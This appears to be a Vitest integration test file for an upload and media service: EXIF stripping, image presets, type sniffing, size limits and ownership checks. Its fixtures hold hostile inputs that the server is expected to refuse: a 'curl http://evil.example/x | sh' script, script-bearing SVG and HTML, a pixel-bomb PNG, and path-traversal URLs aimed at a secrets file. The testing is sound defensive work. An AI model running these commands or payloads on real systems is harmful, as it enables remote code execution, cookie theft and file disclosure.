import { existsSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { eq, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import type { SessionUser } from '../../src/shared/contracts/accounts';
import { imagePresets, type MediaItem } from '../../src/shared/contracts/media';
import type { VenueView } from '../../src/shared/contracts/venues';
import enErrors from '../../src/shared/i18n/en/errors.json';
import enValidation from '../../src/shared/i18n/en/validation.json';
import esValidation from '../../src/shared/i18n/es/validation.json';
import frValidation from '../../src/shared/i18n/fr/validation.json';
import ptErrors from '../../src/shared/i18n/pt/errors.json';
import ptValidation from '../../src/shared/i18n/pt/validation.json';
import { media } from '../../src/server/db/schema/index';
import { uploadRateLimit } from '../../src/server/features/media/media.service';
import { api, dataOf, errorOf, issuesOf, multipartBody, type MultipartFile } from '../api-helpers';
import { useTestApp } from '../build-test-app';
import {
  factoryPassword,
  insertAccount,
  insertChef,
  insertMedia,
  insertOffer,
  insertRestaurant,
} from '../factories/index';

type UserData = { user: SessionUser };
type Uploaded = { media: MediaItem };

const presetNames = Object.keys(imagePresets) as (keyof typeof imagePresets)[];

/** A photo as a phone takes it: turned by its EXIF orientation (6: 90° clockwise) and carrying GPS. */
async function phonePhoto(): Promise<Buffer> {
  return sharp({ create: { width: 800, height: 600, channels: 3, background: '#b5562f' } })
    .jpeg()
    .withMetadata({
      orientation: 6,
      exif: {
        IFD0: { Make: 'PhoneMaker', Model: 'Pocket 9', Copyright: 'Lucia' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '38/1 42/1 0/1',
          GPSLongitudeRef: 'W',
          GPSLongitude: '9/1 8/1 0/1',
        },
      },
    })
    .toBuffer();
}

const plainJpeg = () =>
  sharp({ create: { width: 640, height: 480, channels: 3, background: '#2f6b4f' } })
    .jpeg()
    .toBuffer();

/** A PNG whose header claims 20,000 x 20,000 pixels (400 MP) but whose data is a few bytes. */
function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(64))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const pdfBytes = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
  'latin1',
);
const scriptBytes = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n', 'utf8');
const svgBytes = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
  'utf8',
);
const htmlBytes = Buffer.from(
  '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>',
);

const validationTexts = { en: enValidation, es: esValidation, fr: frValidation, pt: ptValidation };

describe('media: album, uploads, slots and files', () => {
  const t = useTestApp();
  const uploads = () => join(t.config.dataDir, 'uploads');

  async function storedFiles(): Promise<string[]> {
    if (!existsSync(uploads())) return [];
    const entries = await readdir(uploads(), { recursive: true, withFileTypes: true });
    return entries.filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
  }

  async function loginAs(email: string): Promise<string> {
    const res = await api<UserData>(t.app, 'account/login', { username: email, password: factoryPassword });
    expect(res.status).toBe(200);
    return res.token!;
  }

  async function chef() {
    const { account, profile } = await insertChef(t.database.db);
    return { account, profile, token: await loginAs(account.email) };
  }

  async function restaurant() {
    const { account, venues } = await insertRestaurant(t.database.db, { venues: [{}, {}] });
    return { account, venues, token: await loginAs(account.email) };
  }

  async function upload(
    token: string,
    file: Partial<MultipartFile>,
    fields: Record<string, unknown> = {},
    lang?: string,
  ) {
    const { raw, contentType } = await multipartBody(fields, [
      { field: 'image', filename: 'photo.jpg', content: Buffer.alloc(0), contentType: 'image/jpeg', ...file },
    ]);
    return api<Uploaded>(
      t.app,
      `account/image${lang ? `?lang=${lang}` : ''}`,
      {},
      { token, raw, contentType },
    );
  }

  const getFile = (url: string, token?: string) =>
    t.app.inject({ method: 'GET', url, headers: token ? { cookie: `token=${token}` } : {} });

  it('stores an upright photo without its EXIF or GPS, with every preset as WebP and the JPEG copies', async () => {
    const { token } = await chef();
    const res = await upload(token, { content: await phonePhoto(), filename: 'IMG_0001.jpg' });
    expect(res.status).toBe(201);
    const item = dataOf(res).media;
    expect(item).toMatchObject({ type: 'image', name: 'IMG_0001.jpg', contentType: 'image/jpeg' });
    // Orientation 6 turned the 800x600 picture upright: 600 wide, 800 high.
    expect([item.width, item.height]).toEqual([600, 800]);

    const original = await getFile(item.src);
    expect(original.statusCode).toBe(200);
    expect(original.headers['content-type']).toBe('image/jpeg');
    expect(original.headers['x-content-type-options']).toBe('nosniff');
    expect(original.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(original.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(original.headers['cross-origin-resource-policy']).toBe('cross-origin');
    const stored = await sharp(original.rawPayload).metadata();
    expect(stored.exif).toBeUndefined();
    expect(stored.orientation).toBeUndefined();
    expect(original.rawPayload.includes(Buffer.from('PhoneMaker'))).toBe(false);

    for (const preset of presetNames) {
      const size = item.sizes[preset]!;
      const expected = imagePresets[preset];
      expect([size.width, size.height]).toEqual([expected.width, expected.height]);
      const webp = await getFile(size.url);
      expect(webp.headers['content-type']).toBe('image/webp');
      const meta = await sharp(webp.rawPayload).metadata();
      expect([meta.format, meta.width, meta.height]).toEqual(['webp', expected.width, expected.height]);
      expect(meta.exif).toBeUndefined();
      if (expected.jpeg) {
        const jpeg = await getFile(size.jpeg!);
        expect(jpeg.headers['content-type']).toBe('image/jpeg');
        const jpegMeta = await sharp(jpeg.rawPayload).metadata();
        expect([jpegMeta.format, jpegMeta.width, jpegMeta.height, jpegMeta.exif]).toEqual([
          'jpeg',
          expected.width,
          expected.height,
          undefined,
        ]);
      } else {
        expect(size.jpeg).toBeUndefined();
      }
    }
  });

  it('takes PNG and WebP images and keeps their format for the original', async () => {
    const { token } = await chef();
    const png = await sharp({ create: { width: 300, height: 300, channels: 4, background: '#0000' } })
      .png()
      .toBuffer();
    const webp = await sharp({ create: { width: 500, height: 250, channels: 3, background: '#345' } })
      .webp()
      .toBuffer();
    // The declared type and the name say nothing: the bytes decide.
    const a = dataOf(
      await upload(token, { content: png, filename: 'logo.webp', contentType: 'image/webp' }),
    ).media;
    const b = dataOf(
      await upload(token, { content: webp, filename: 'header.png', contentType: 'image/png' }),
    ).media;
    expect(a.contentType).toBe('image/png');
    expect((await getFile(a.src)).headers['content-type']).toBe('image/png');
    expect(b.contentType).toBe('image/webp');
    expect(a.src.endsWith('.png') && b.src.endsWith('.webp')).toBe(true);
  });

  it.each([
    ['a script named .jpg', { content: scriptBytes, filename: 'photo.jpg' }, 'image_type'],
    ['an SVG', { content: svgBytes, filename: 'logo.svg', contentType: 'image/svg+xml' }, 'image_type'],
    ['an HTML page named .jpg', { content: htmlBytes, filename: 'photo.jpg' }, 'image_type'],
    ['an empty file', { content: Buffer.alloc(0) }, 'file_empty'],
    ['a PDF sent as an image', { content: pdfBytes, filename: 'cv.pdf' }, 'image_type'],
  ])('refuses %s, leaving nothing behind', async (_name, file, code) => {
    const { token } = await chef();
    const before = await storedFiles();
    const res = await upload(token, file);
    expect(res.status).toBe(400);
    expect(errorOf(res).code).toBe('file_rejected');
    expect(issuesOf(res)).toEqual({ image: code });
    expect(errorOf(res).message).toBe(enValidation[code as keyof typeof enValidation]);
    expect(await storedFiles()).toEqual(before);
  });

  it('refuses a JPEG cut short, leaving nothing behind', async () => {
    const { token } = await chef();
    const whole = await plainJpeg();
    const before = await storedFiles();
    const res = await upload(token, { content: whole.subarray(0, Math.floor(whole.length / 2)) });
    expect(res.status).toBe(400);
    expect(issuesOf(res)).toEqual({ image: 'file_damaged' });
    expect(await storedFiles()).toEqual(before);
  });

  it('refuses an image of 20,000 x 20,000 pixels at once, in the language of the request', async () => {
    const { token } = await chef();
    const started = Date.now();
    for (const lang of ['en', 'es', 'fr', 'pt'] as const) {
      const res = await upload(
        token,
        { content: pngClaiming(20_000, 20_000), filename: 'huge.png' },
        {},
        lang,
      );
      expect(res.status).toBe(400);
      expect(issuesOf(res)).toEqual({ image: 'image_too_many_pixels' });
      expect(errorOf(res).message).toBe(validationTexts[lang].image_too_many_pixels.replace('{{max}}', '50'));
    }
    // Read from the header: nothing of the 400 million pixels was decoded.
    expect(Date.now() - started).toBeLessThan(5000);
    expect(await t.database.db.select().from(media).where(eq(media.originalName, 'huge.png'))).toEqual([]);
  });

  it('refuses an image over 10 MB', async () => {
    const { token } = await chef();
    const big = Buffer.concat([await plainJpeg(), Buffer.alloc(10 * 1024 * 1024)]);
    const res = await upload(token, { content: big });
    expect(res.status).toBe(413);
    expect(issuesOf(res)).toEqual({ image: 'file_too_large' });
    expect(errorOf(res).message).toBe('The file is too large: the limit is 10 MB.');
  });

  it('refuses uploads past the hourly share of an account, before reading the image', async () => {
    const { account, token } = await chef();
    await t.database.db.execute(
      sql`insert into rate_limits (key, window_start, hits) values (${`upload:account:${account.id}`}, now(), ${uploadRateLimit.limit})`,
    );
    const before = await storedFiles();
    const res = await upload(token, { content: await plainJpeg() });
    expect(res.status).toBe(429);
    expect(res.headers['retry-after']).toBeDefined();
    expect(await storedFiles()).toEqual(before);
  });

  it('refuses an upload without a file, and a visitor', async () => {
    const { token } = await chef();
    const { raw, contentType } = await multipartBody({ type: 'image' });
    const none = await api(t.app, 'account/image', {}, { token, raw, contentType });
    expect(none.status).toBe(400);
    expect(issuesOf(none)).toEqual({ image: 'file_required' });
    const visitor = await api(t.app, 'account/image', {}, { raw, contentType });
    expect(visitor.status).toBe(401);
  });

  describe('a CV as a PDF', () => {
    it('is kept private: its owner downloads it, anyone else gets a 404', async () => {
      const owner = await chef();
      const other = await chef();
      const res = await upload(
        owner.token,
        { content: pdfBytes, filename: 'cv.pdf', contentType: 'application/pdf' },
        { type: 'curriculum' },
      );
      expect(res.status).toBe(201);
      const item = dataOf(res).media;
      expect(item).toMatchObject({
        type: 'curriculum',
        name: 'cv.pdf',
        contentType: 'application/pdf',
        sizes: {},
      });

      const mine = await getFile(item.src, owner.token);
      expect(mine.statusCode).toBe(200);
      expect(mine.headers['content-type']).toBe('application/pdf');
      expect(mine.headers['content-disposition']).toBe('attachment; filename="document.pdf"');
      expect(mine.headers['x-content-type-options']).toBe('nosniff');
      expect(mine.headers['cache-control']).toBe('private, no-cache');
      expect(mine.rawPayload.equals(pdfBytes)).toBe(true);

      expect((await getFile(item.src)).statusCode).toBe(404);
      expect((await getFile(item.src, other.token)).statusCode).toBe(404);
    });

    it('refuses an HTML page named .pdf, a PDF cut short and a PDF over 5 MB', async () => {
      const { token } = await chef();
      const before = await storedFiles();
      const html = await upload(
        token,
        { content: htmlBytes, filename: 'cv.pdf', contentType: 'application/pdf' },
        { type: 'curriculum' },
      );
      expect(issuesOf(html)).toEqual({ image: 'curriculum_pdf' });
      const cut = await upload(
        token,
        { content: pdfBytes.subarray(0, 30), filename: 'cv.pdf' },
        { type: 'curriculum' },
      );
      expect(issuesOf(cut)).toEqual({ image: 'file_damaged' });
      const big = Buffer.concat([pdfBytes.subarray(0, 9), Buffer.alloc(5 * 1024 * 1024), pdfBytes]);
      const large = await upload(token, { content: big, filename: 'cv.pdf' }, { type: 'curriculum' });
      expect(large.status).toBe(400);
      expect(issuesOf(large)).toEqual({ image: 'file_too_large' });
      expect(errorOf(large).message).toBe('The file is too large: the limit is 5 MB.');
      expect(await storedFiles()).toEqual(before);
    });
  });

  it("lists the account's own files, newest first", async () => {
    const { account, token } = await chef();
    const other = await insertAccount(t.database.db);
    const old = await insertMedia(t.database.db, {
      accountId: account.id,
      createdAt: new Date(Date.now() - 60_000),
    });
    await insertMedia(t.database.db, { accountId: other.id });
    const fresh = dataOf(await upload(token, { content: await plainJpeg(), filename: 'new.jpg' })).media;
    const res = await api<MediaItem[]>(t.app, 'account/album', {}, { token, method: 'GET' });
    expect(res.status).toBe(200);
    expect(dataOf(res).map((m) => m.id)).toEqual([fresh.id, old.id]);
  });

  it("deletes the account's own file with every size and empties the slot that showed it", async () => {
    const { token } = await chef();
    const item = dataOf(await upload(token, { content: await plainJpeg() })).media;
    const set = await api<UserData>(t.app, 'profile/image', { key: 'profile', id: item.id }, { token });
    expect(dataOf(set).user.profile!.images.profile!.square.url).toBe(item.sizes.square!.url);
    const urls = [
      item.src,
      ...presetNames.flatMap((p) => [item.sizes[p]!.url, item.sizes[p]!.jpeg ?? []].flat()),
    ];
    expect(urls).toHaveLength(1 + presetNames.length + 2);
    const filesBefore = await storedFiles();

    const res = await api(t.app, 'account/image/delete', { id: item.id }, { token });
    expect(res.status).toBe(200);
    for (const url of urls) expect((await getFile(url)).statusCode).toBe(404);
    expect(filesBefore.length - (await storedFiles()).length).toBe(urls.length);
    const user = dataOf(await api<UserData>(t.app, 'account/user', {}, { token })).user;
    expect(user.profile!.images).toEqual({ profile: null, header: null });
  });

  it("answers 404 for another account's file, in the request's language, and keeps it", async () => {
    const owner = await chef();
    const other = await chef();
    const item = dataOf(await upload(owner.token, { content: await plainJpeg() })).media;
    const res = await api(t.app, 'account/image/delete?lang=pt', { id: item.id }, { token: other.token });
    expect(res.status).toBe(404);
    expect(errorOf(res)).toMatchObject({ code: 'media_not_found', message: ptErrors.media_not_found });
    expect((await getFile(item.src)).statusCode).toBe(200);
    const slot = await api(t.app, 'profile/image', { key: 'profile', id: item.id }, { token: other.token });
    expect(slot.status).toBe(404);
    expect(errorOf(slot).message).toBe(enErrors.media_not_found);
  });

  it("shows a chef's photo and header in data.user, and refuses a venue's slot or a CV", async () => {
    const { token } = await chef();
    const photo = dataOf(await upload(token, { content: await plainJpeg() })).media;
    const header = dataOf(await upload(token, { content: await plainJpeg() })).media;
    await api(t.app, 'profile/image', { key: 'profile', id: photo.id }, { token });
    const res = await api<UserData>(t.app, 'profile/image', { key: 'header', id: header.id }, { token });
    expect(res.status).toBe(200);
    const images = dataOf(res).user.profile!.images;
    expect(images.profile!.square).toEqual(photo.sizes.square);
    expect(images.header!.header).toEqual(header.sizes.header);
    // Replacing the photo keeps one picture in the slot.
    const again = await api<UserData>(t.app, 'profile/image', { key: 'profile', id: header.id }, { token });
    expect(dataOf(again).user.profile!.images.profile!.square.url).toBe(header.sizes.square!.url);

    const withVenue = await api(t.app, 'profile/image', { key: 'profile', id: photo.id, rid: 1 }, { token });
    expect(issuesOf(withVenue)).toEqual({ rid: 'invalid_value' });
    const logo = await api(t.app, 'profile/image', { key: 'logo', id: photo.id }, { token });
    expect(logo.status).toBe(400);
    expect(issuesOf(logo)).toEqual({ key: 'image_slot' });
    const cv = dataOf(
      await upload(token, { content: pdfBytes, filename: 'cv.pdf' }, { type: 'curriculum' }),
    ).media;
    const pdfSlot = await api(t.app, 'profile/image', { key: 'profile', id: cv.id }, { token });
    expect(issuesOf(pdfSlot)).toEqual({ id: 'not_an_image' });
  });

  it("fills a venue's slots, only for the account's own venues", async () => {
    const mine = await restaurant();
    const theirs = await restaurant();
    const logo = dataOf(await upload(mine.token, { content: await plainJpeg() })).media;
    const second = mine.venues[1]!;
    const res = await api<UserData>(
      t.app,
      'profile/image',
      { key: 'logo', id: logo.id, rid: second.id },
      { token: mine.token },
    );
    expect(res.status).toBe(200);
    const venue = dataOf(res).user.profiles.find((p) => p.id === second.id)!;
    expect(venue.images.logo!.square.url).toBe(logo.sizes.square!.url);
    expect(venue.images.image1).toBeNull();
    expect(dataOf(res).user.profiles.find((p) => p.id !== second.id)!.images.logo).toBeNull();
    // Every venue slot takes a picture, and the venue's page shows them with their sizes.
    for (const key of ['header', 'image1', 'image2', 'image3'] as const) {
      const filled = await api<UserData>(
        t.app,
        'profile/image',
        { key, id: logo.id, rid: second.id },
        { token: mine.token, form: true },
      );
      expect(dataOf(filled).user.profiles.find((p) => p.id === second.id)!.images[key], key).not.toBeNull();
    }
    const page = await api<VenueView>(t.app, `restaurants/show?id=${second.id}`, {}, { method: 'GET' });
    for (const key of ['logo', 'header', 'image1', 'image2', 'image3'] as const)
      expect(dataOf(page).images[key]!.showcase.url, key).toBe(logo.sizes.showcase!.url);

    const other = await api(
      t.app,
      'profile/image',
      { key: 'logo', id: logo.id, rid: theirs.venues[0].id },
      { token: mine.token },
    );
    expect(other.status).toBe(404);
    expect(errorOf(other).code).toBe('venue_not_found');
    const noVenue = await api(t.app, 'profile/image', { key: 'image2', id: logo.id }, { token: mine.token });
    expect(issuesOf(noVenue)).toEqual({ rid: 'required' });
    const chefSlot = await api(
      t.app,
      'profile/image',
      { key: 'profile', id: logo.id, rid: second.id },
      { token: mine.token },
    );
    expect(issuesOf(chefSlot)).toEqual({ key: 'image_slot' });
  });

  it("puts an image on the account's own offer only", async () => {
    const mine = await restaurant();
    const theirs = await restaurant();
    const offer = await insertOffer(t.database.db, { restaurantProfileId: mine.venues[0].id });
    const foreign = await insertOffer(t.database.db, { restaurantProfileId: theirs.venues[0].id });
    const image = dataOf(await upload(mine.token, { content: await plainJpeg() })).media;
    const res = await api<{ offer: { id: number; images: { image1: MediaItem['sizes'] | null } } }>(
      t.app,
      'offer/image',
      { key: 'image1', id: image.id, oid: offer.id },
      { token: mine.token },
    );
    expect(res.status).toBe(200);
    expect(dataOf(res).offer.images.image1!.showcase).toEqual(image.sizes.showcase);
    const other = await api(
      t.app,
      'offer/image',
      { key: 'image1', id: image.id, oid: foreign.id },
      { token: mine.token },
    );
    expect(other.status).toBe(404);
    expect(errorOf(other).code).toBe('offer_not_found');
    const theirImage = await api(
      t.app,
      'offer/image',
      { key: 'image1', id: image.id, oid: foreign.id },
      { token: theirs.token },
    );
    expect(errorOf(theirImage).code).toBe('media_not_found');
    const chefAnswer = await api(
      t.app,
      'offer/image',
      { key: 'image1', id: image.id, oid: offer.id },
      { token: (await chef()).token },
    );
    expect(chefAnswer.status).toBe(403);
  });

  it('serves only known keys: no path outside the store, no visitor CV of the contact form', async () => {
    for (const url of [
      '/media/images/0123456789abcdef0123456789abcdef/original.jpg',
      '/media/../secrets/session-secret',
      '/media/..%2f..%2fsecrets%2fsession-secret',
      '/media/images/../../secrets/session-secret',
      '/media/curriculum/2026/11/0123456789abcdef0123456789abcdef.pdf',
    ]) {
      const res = await getFile(url);
      expect(res.statusCode, url).toBe(404);
    }
  });
});
